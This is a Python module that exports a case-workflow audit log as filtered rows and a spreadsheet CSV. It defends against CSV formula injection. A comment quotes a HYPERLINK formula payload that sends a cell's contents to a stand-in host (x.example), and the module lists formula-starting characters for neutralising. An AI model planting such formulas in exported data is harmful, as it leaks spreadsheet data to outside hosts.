"""The transition log as `audit export` gives it to auditors, filtered by case, by the London days
it took effect on and by who acted: shared by the command line and the web console."""
from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import datetime, time, timedelta
from typing import Iterator

from storage import queries
from storage.db import Database
from storage.rows import LogEntry
from workflows.read import lateness
from workflows.core.calendar import LONDON, WorkingCalendar
from workflows.core.times import TimeFormatError, parse_date, utc_iso

COLUMNS = ["case", "seq", "trigger", "source", "dest", "actor", "for", "effective_at",
           "recorded_at", "data", "engine", "erased", "hash", "keyed_late_working_days",
           "superseded_by"]


def _day_start(text: str, days: int = 0) -> str:
    return utc_iso(datetime.combine(parse_date(text) + timedelta(days=days), time(0), LONDON))


@dataclass(frozen=True)
class ExportFilter:
    """`--case`, `--since DAY`, `--until DAY` (both London days, inclusive) and `--actor
    ROLE[:ID]` (entries by, or keyed in for, that person or role). Bad days raise
    TimeFormatError when the filter is made."""
    case: str | None = None
    since: str | None = None
    until: str | None = None
    actor: str | None = None

    def __post_init__(self):
        for option, day, after in (("--since", self.since, 0), ("--until", self.until, 1)):
            try:
                start = _day_start(day, after) if day else None
            except TimeFormatError as err:
                raise TimeFormatError(f"{option}: {err}") from None
            object.__setattr__(self, "_to" if after else "_from", start)

    def admits(self, entry: LogEntry) -> bool:
        if self.case and entry.case_id != self.case:
            return False
        if self._from and entry.effective_at < self._from:   # type: ignore[attr-defined]
            return False
        if self._to and entry.effective_at >= self._to:       # type: ignore[attr-defined]
            return False
        return not self.actor or any(
            who and (who == self.actor or who.split(":")[0] == self.actor)
            for who in (entry.actor, entry.on_behalf_of))


def entries(db: Database, chosen: ExportFilter) -> Iterator[LogEntry]:
    """The log entries the filter admits, in log order, read in batches."""
    return (e for e in queries.log_in_order(db) if chosen.admits(e))


class Rows:
    """Exported entries: the keys of a `show` log entry plus `case`, with how late each was
    keyed in and, for a timer entry, which entry superseded it (workflows/read/lateness.py)."""

    def __init__(self, db: Database, calendar: WorkingCalendar):
        self.calendar = calendar
        self.superseding = queries.superseding(db)

    def row(self, entry: LogEntry) -> dict:
        out = {"case": entry.case_id, **queries.log_json(entry)}
        out["keyed_late_working_days"] = lateness.keyed_late(out, self.calendar)
        out["superseded_by"] = self.superseding.get((entry.case_id, entry.seq))
        return out


# The CSV a spreadsheet opens: the export's keys (COLUMNS), with whom each case is about beside
# its id, each instant also in London time beside its UTC form, and what the entry did to the
# case's deadlines (met, missed, superseded).
SPREADSHEET = ["case", "kind", "name", "school", "seq", "trigger", "source", "dest", "actor",
               "for", "effective_at", "effective (London)", "recorded_at", "keyed in (London)",
               "deadlines", "keyed_late_working_days", "superseded_by", "data", "engine",
               "erased", "hash"]
assert set(COLUMNS) <= set(SPREADSHEET)


# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): a candidate named
# `=HYPERLINK("http://x.example/?"&A1,"click")` ran as one when the export was opened (issue 24).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(cell: str) -> str:
    """A cell a spreadsheet shows as the text it is: one that would start a formula is prefixed
    with `'`, which the spreadsheet hides and which tells a reader of the file that it was."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def spreadsheet(db: Database, chosen: ExportFilter, calendar: WorkingCalendar,
                now: str, batch: int = 2000) -> Iterator[list[str]]:
    """The header and one row per admitted entry, read in batches (names and timers fetched
    per batch, so a long log is never held whole)."""
    from storage.console import labels_from_cases, timers_of_cases
    from workflows.core.times import london
    from workflows.read.deadline_outcome import deadline_column, deadline_outcome
    rows = Rows(db, calendar)
    yield SPREADSHEET
    pending: list[LogEntry] = []

    def flush() -> Iterator[list[str]]:
        ids = {e.case_id for e in pending}
        labels = labels_from_cases(db, ids)
        timers = timers_of_cases(db, ids)
        for entry in pending:
            row = rows.row(entry)
            label = labels.get(entry.case_id, {})
            row |= {"kind": label.get("kind", ""), "name": label.get("person", ""),
                    "school": label.get("school", ""),
                    "effective (London)": london(entry.effective_at),
                    "keyed in (London)": london(entry.recorded_at)}
            case_timers = timers.get(entry.case_id, [])
            if entry.trigger.startswith("timer:"):
                name, due = entry.trigger[6:], row["data"].get("due", "")
                fired = next((t for t in case_timers if t.ended_seq == entry.seq
                              and t.name == name), None)
                # Read from the entry when its timer's row is not at hand: the rule says it.
                timer = queries.timer_json(fired) if fired else {
                    "name": name, "due": due, "fires_at": entry.effective_at,
                    "status": "superseded" if row["superseded_by"] else "fired"}
                word = deadline_outcome(timer, {}, now).word
                row["deadlines"] = f"{name} {word}" + (f" (due {due})" if due else "")
            else:
                ended = [queries.timer_json(t) for t in case_timers if t.ended_seq == entry.seq]
                row["deadlines"] = deadline_column(entry.seq, queries.log_json(entry), ended,
                                                   now) if ended else ""
            yield [inert(json.dumps(row[c], ensure_ascii=False, sort_keys=True)
                         if c in ("data", "engine") else "" if row[c] is None else str(row[c]))
                   for c in SPREADSHEET]
        pending.clear()

    for entry in entries(db, chosen):
        pending.append(entry)
        if len(pending) == batch:
            yield from flush()
    yield from flush()
